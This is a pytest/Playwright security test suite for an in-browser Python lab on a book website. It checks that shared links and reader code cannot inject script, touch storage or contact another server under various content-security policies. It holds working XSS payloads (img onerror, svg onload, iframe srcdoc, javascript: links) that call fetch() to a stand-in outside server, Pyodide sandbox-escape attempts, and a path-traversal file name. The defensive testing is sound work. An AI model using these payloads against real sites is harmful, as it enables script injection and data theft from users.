"""What a link or a reader's code does in the lab reaches neither page nor network, whatever policy the host has."""

import base64
import hashlib
import http.server
import json
import re
import threading
import zlib
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from engine import lab
from tests.site.conftest import PATIENCE
from tests.site.lab import Visit, open_lab, opened, press, send, settled, shows, type_in
from tests.site.serving import serve

README = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
RECOMMENDED = README.partition("Content-Security-Policy: ")[2].partition("\n")[0]
SCRIPTS = re.compile("script-src [^;]*")
POLICIES = {
    "none": "",
    "inline scripts": SCRIPTS.sub("script-src 'self' 'unsafe-inline' 'wasm-unsafe-eval'", RECOMMENDED),
    "recommended": RECOMMENDED,
}
PLACE = "import gc; P = [o for o in gc.get_objects() if type(o).__name__ == 'Place'][0]; "
# What an attack does if it can: in the page, in its storage, and to a server elsewhere
HARM = "document.title = 'PWNED'; localStorage.pwned = 1; fetch('{elsewhere}')"
MARKUP = f'<img src=x onerror="{HARM}">'
# Lines, and what the log shows when they have run: an attack that ends early would prove nothing
ATTACKS = {
    "the picture": (PLACE + "P.draw = lambda *_: {markup!r}; 1 + 1", "2"),
    "a picture in a picture": (
        PLACE
        + 'H = {harm!r}; P.draw = lambda *_: \'<figure class="picture modal" style="position:fixed" onclick="\' + H'
        """ + '"><script>' + H + '</script><svg onload="' + H + '"></svg><iframe srcdoc="<script>parent.' + H + """
        """'</script>"></iframe><a href="javascript:' + H + '">x</a>' + {markup!r} + '<b>drawn</b></figure>'; 1 + 1""",
        "2",
    ),
    "what is printed": ("print({markup!r})", "<img src=x"),
    "what was typed": (PLACE + "P.post('typed', {markup!r})", ">>> <img src=x"),
    "an error": (PLACE + "P.post('raised', \"can't start new thread\" + {markup!r})", "can't do that"),
    "a message that there is not": (PLACE + "P.post('innerHTML', {markup!r}); print('sent')", "sent"),
    "a message of another type": (
        PLACE + "P.post('stdout', [{markup!r}]); P.post('picture', 3); print('sent')",
        "sent",
    ),
    "how far a start is": (PLACE + "P.post('progress', {markup!r}); print('sent')", "sent"),
    "a function made of a text": (PLACE + "P.post.constructor({harm!r})()", "runs no JavaScript"),
    "an asynchronous function made of a text": (
        PLACE + "type(P.post); f = P.post.constructor.constructor('return async function(){{}}')",
        "runs no JavaScript",
    ),
    "the module js": ("import js; js.eval({harm!r})", "No module named 'js'"),
    "pyodide's own": ("import pyodide.code; pyodide.code.run_js({harm!r})", "Error"),
    "pyodide's core": (
        "import _pyodide_core, sys; [m.run_js({harm!r}) for m in [*sys.modules.values()] if hasattr(m, 'run_js')]",
        ">>> import _pyodide_core",
    ),
    "a file's name": ("open('<img src=x onerror=alert(1)>.py', 'w').close(); print('sent')", "sent"),
    "a timer": (PLACE + "[getattr(P.post, n, None) for n in dir(P.post)]; print('sent')", "sent"),
}


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of a server that is not the book's, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/taken", asked
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module", params=POLICIES)
def guarded(request: pytest.FixtureRequest, site: Path) -> Iterator[str]:
    """Where the book is served under a policy."""
    with serve(site, POLICIES[request.param]) as address:
        yield address


def link(lines: list[str], files: dict[str, str] | None = None, **more: object) -> str:
    """What stands behind `#lab=` in a link, whatever it holds."""
    work = {"version": 1, "python": "3.14", "files": files or {}, "lines": lines} | more
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(json.dumps(work).encode()) + packer.flush()
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def received(page: Page, address: str, text: str) -> None:
    """Open a link."""
    page.goto(f"{address}/stale.html#lab={text}")
    page.locator(".lab-received, .lab-said").first.wait_for()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_link_can_not_attack(visit: Visit, guarded: str, elsewhere: tuple[str, list[str]], attack: str) -> None:
    """It is run as its reader would, and does nothing to the page, to what is kept, or to the network."""
    address, asked = elsewhere
    line, sign = ATTACKS[attack]
    harm = HARM.format(elsewhere=address)
    line = line.format(harm=harm, markup=MARKUP.format(elsewhere=address))
    page = visit("index.html")
    received(page, guarded, link([line], {"<img src=x onerror=alert(2)>.py": MARKUP}))
    looks = page.title(), page.locator("article h1").inner_text()
    page.get_by_role("button", name="Run them").click()
    expect(page.locator(".lab-typed").first).to_contain_text(line.split("\n")[0][:40])
    assert sign in settled(page)
    assert "\n3" in shows(page, "1 + 2")  # and the lab lives on
    assert (page.title(), page.locator("article h1").inner_text()) == looks
    assert page.evaluate("localStorage.pwned") is None
    assert (
        page.locator(".lab img, .lab script, .lab svg, .lab iframe, .lab [style*=fixed], .lab [onclick]").count() == 0
    )
    assert asked == []
    page.close()


def test_the_attacks_would_be_seen(visit: Visit, elsewhere: tuple[str, list[str]]) -> None:
    """Where something runs the harm, it is found in each of the places that are looked at."""
    address, asked = elsewhere
    page = visit("stale.html")
    page.evaluate(
        "markup => { document.body.insertAdjacentHTML('beforeend', markup); }", MARKUP.format(elsewhere=address)
    )
    expect(page).to_have_title("PWNED")
    page.wait_for_function("localStorage.pwned === '1'")
    page.wait_for_timeout(200)
    assert asked == ["/taken"]


def test_a_worker_is_closed(visit: Visit) -> None:
    """What could send something elsewhere, or run a text, is gone in the worker before a reader's line runs."""
    closed = (lab.HERE / "src" / "closed.js").read_text("utf-8").replace("export function", "function")
    tried = """
        close();
        const left = [];
        for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "Worker", "importScripts",
            "indexedDB", "caches", "navigator", "BroadcastChannel"])
            if (globalThis[name] !== undefined) left.push(name);
        const made = { plain() {}, async async() {}, *generator() {}, async *both() {} };
        const runs = { eval: () => globalThis.eval("1"), new: () => new Function("1") };
        for (const [kind, one] of Object.entries(made)) runs[kind] = () => one.constructor("return 1");
        for (const [kind, act] of Object.entries(runs)) {
            try { act(); left.push(kind); } catch {}
        }
        if ((() => {}) instanceof Function === false) left.push("instanceof");
        setTimeout("globalThis.ran = true");
        setTimeout(() => postMessage(globalThis.ran ? [...left, "a timer with a text"] : left), 50);
    """
    page = visit("stale.html")
    left = page.evaluate(
        """source => new Promise((done, fail) => {
            const address = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
            const worker = new Worker(address, { type: "module" });
            worker.onmessage = ({ data }) => done(data);
            worker.onerror = (event) => fail(event.message);
        })""",
        closed + tried,
    )
    assert left == []


def test_a_link_shows_what_it_brings_before_it_runs(visit: Visit) -> None:
    """Files and lines of one reader are another's; nothing runs until they say so, and their own files are kept."""
    page = opened(visit, "stale.html", permissions=["clipboard-read", "clipboard-write"])
    send(page)
    shows(page, "import dogs")
    shows(page, "$ python dogs.py")
    press(page, "Share")
    expect(page.locator(".lab-log")).to_contain_text("is on your clipboard")
    shared = page.evaluate("navigator.clipboard.readText()")
    other = visit("stale.html")
    open_lab(other)
    other.on("dialog", lambda dialog: dialog.accept("mine.py"))
    press(other, "New file")
    other.evaluate("address => { location.href = address; }", shared)  # pasted into the page that is open
    box = other.locator(".lab-received")
    expect(box).to_be_focused()
    expect(box).to_contain_text(">>> import dogs")
    expect(box).to_contain_text("$ python dogs.py")
    expect(box).to_contain_text("famous =")
    assert "my body runs" not in settled(other).replace(box.inner_text(), "")
    other.get_by_role("button", name="Run them").click()
    expect(other.locator(".lab-log")).to_contain_text("$ python dogs.py")
    assert settled(other).count("dogs: my body runs\n") >= 2
    assert "#lab" not in other.url
    other.locator(".lab-log .lab-undo").click()
    settled(other)
    expect(other.locator(".lab-tab")).to_have_text(["dogs.py", "mine.py •"])


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("", "damaged"),
        ("x", "damaged"),
        ("AAAA", "damaged"),
        ("%%%", "damaged"),
        ("eyJ2ZXJzaW9uIjoxfQ", "damaged"),
        (link([], version=2), "later edition"),
        (link("abc"), "damaged"),
        (link([], {"x.py": "x" * 2_000_000}), "more than a megabyte"),
        (link([], {"": "x"}), "name that can't be"),
        (link([], {"../../evil.py": "x"}), "name that can't be"),
    ],
)
def test_a_link_that_can_not_be_used_is_told(revisit: Visit, text: str, told: str) -> None:
    """In a sentence, with what to do; and the address is the page's again."""
    page = revisit(f"stale.html#lab={text}")
    expect(page.locator(".lab-log")).to_contain_text(told)
    assert "#lab" not in page.url


def test_a_link_for_a_python_that_there_is_not(revisit: Visit) -> None:
    """It says on which one it runs instead."""
    page = revisit(f"stale.html#lab={link(['1 + 1'], python='9.9')}")
    page.get_by_role("button", name="Run them").click()
    expect(page.locator(".lab-log")).to_contain_text("Python 9.9, which the lab does not have")
    expect(page.locator(".lab-stdout").last).to_have_text("2\n")


class Inline(HTMLParser):
    """Collects what a page runs that stands in it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.is_script = False

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        names = dict(attributes)
        self.is_script = tag == "script" and "src" not in names and names.get("type", "module") in ("", "module")
        self.found |= {value or "" for name, value in attributes if name.startswith("on")}

    def handle_endtag(self, tag: str) -> None:
        self.is_script = False

    def handle_data(self, data: str) -> None:
        if self.is_script:
            self.found.add(data)


def test_the_recommended_policy_names_all_that_pages_run(site: Path) -> None:
    """By their digests, and nothing more: no page may run a script that stands in it otherwise."""
    pages = [path for path in site.rglob("*.html") if "_static" not in path.parts]
    assert len(pages) > 80
    parser = Inline()
    for path in pages:
        parser.feed(path.read_text("utf-8"))
    digests = {f"'sha256-{base64.b64encode(hashlib.sha256(one.encode()).digest()).decode()}'" for one in parser.found}
    (scripts,) = SCRIPTS.findall(RECOMMENDED)
    assert set(scripts.split()) == {"script-src", "'self'", "'unsafe-hashes'", "'wasm-unsafe-eval'", *digests}


def use_search(page: Page) -> None:
    """The search page finds something."""
    page.goto(page.url.replace("stale.html", "search.html?q=reload"))
    expect(page.locator("#search-results li").first).to_be_visible()


def use_theme(page: Page) -> None:
    """The button for dark and light."""
    page.locator(".theme-switch-button").click()
    page.locator(".theme-change-button[data-mode=dark]").click()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")


def use_my_python(page: Page) -> None:
    """The choice of a version."""
    page.get_by_label("My Python").select_option("3.13")
    expect(page.locator("html")).to_have_attribute("data-python", "3.13")


def use_copy(page: Page) -> None:
    """The button that copies a cell."""
    cell = page.locator("div.cell").first
    cell.hover()
    cell.locator(".copybtn").click()
    expect(cell.locator(".copybtn.success")).to_be_visible()


def use_full_screen(page: Page) -> None:
    """A button whose script stands in its attribute."""
    page.locator("[onclick^=toggleFullScreen]").click()
    page.wait_for_function("document.fullscreenElement !== null")


def use_lab(page: Page) -> None:
    """The prompt and the terminal."""
    open_lab(page)
    send(page)
    assert "my body runs" in shows(page, "$ python dogs.py")


@pytest.mark.parametrize("use", [use_search, use_theme, use_my_python, use_copy, use_full_screen, use_lab])
def test_the_site_works_under_the_recommended_policy(visit: Visit, site: Path, use: Callable[[Page], None]) -> None:
    """The one that the README gives to hosts; nothing is refused."""
    page = visit("index.html", permissions=["clipboard-read", "clipboard-write"])
    with serve(site, RECOMMENDED) as address:
        refused: list[str] = []
        page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
        page.goto(f"{address}/stale.html")
        use(page)
        assert not refused
        page.close()


def test_a_policy_that_forbids_webassembly_is_told(visit: Visit, site: Path) -> None:
    """The sentence names what the host has to add."""
    page = visit("index.html")
    with serve(site, RECOMMENDED.replace(" 'wasm-unsafe-eval'", "")) as address:
        page.goto(f"{address}/stale.html")
        page.get_by_role("button", name="Open in the lab").click()
        type_in(page, "1 + 1")
        expect(page.locator(".lab-log")).to_contain_text("'wasm-unsafe-eval'", timeout=PATIENCE)
        page.close()
